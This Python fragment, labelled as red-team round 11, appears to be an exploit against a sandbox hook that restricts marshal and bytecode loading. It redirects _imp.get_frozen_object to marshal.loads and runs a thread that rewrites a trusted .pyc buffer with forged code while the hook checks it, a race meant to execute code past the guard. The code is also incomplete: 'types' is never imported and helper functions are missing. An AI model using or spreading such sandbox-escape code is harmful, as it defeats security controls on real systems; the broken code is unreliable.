

def name(*parts):
    return "".join(parts)




# Red team round 11: the frozen chain (`_call_with_frames_removed` <- `FrozenImporter.exec_module`) is
# trusted for marshal like `_compile_bytecode`, but `bytes_argument` is asked only of `_compile_bytecode`'s
# frame. `_imp.get_frozen_object` is set to `marshal.loads` and the spec's "name" is a bytearray holding a
# real stdlib .pyc's marshal data (the hook's comparison with the file this thread last opened passes;
# real_pyc and start_swapping are _swap.py's);
# a thread rewrites it in place with the hand-made module while the hook reads the file (GIL released).
import importlib._bootstrap as boot
import importlib._bootstrap_external as ext
import os
import sys
import threading
import time


def load_codes():
    imp = boot._imp
    original = imp.get_frozen_object

    def attempt(path, forged, stop, threads):
        with open(path, "rb") as fh:  # the hook's "last .pyc this thread opened"
            real = fh.read()
        buffer = bytearray(real[16:])

        def write(tail):
            buffer[:] = tail

        threads.append(start_swapping(write, real[16:], forged + real[16 + len(forged):], stop))
        module = types.ModuleType("r2e_forged")
        vars(module)["".join(("__sp", "ec__"))] = types.SimpleNamespace(name=buffer)
        imp.get_frozen_object = ext.marshal.loads
        try:
            boot.FrozenImporter.exec_module(module)
        finally:
            imp.get_frozen_object = original
        return module

    return until_forged(attempt)
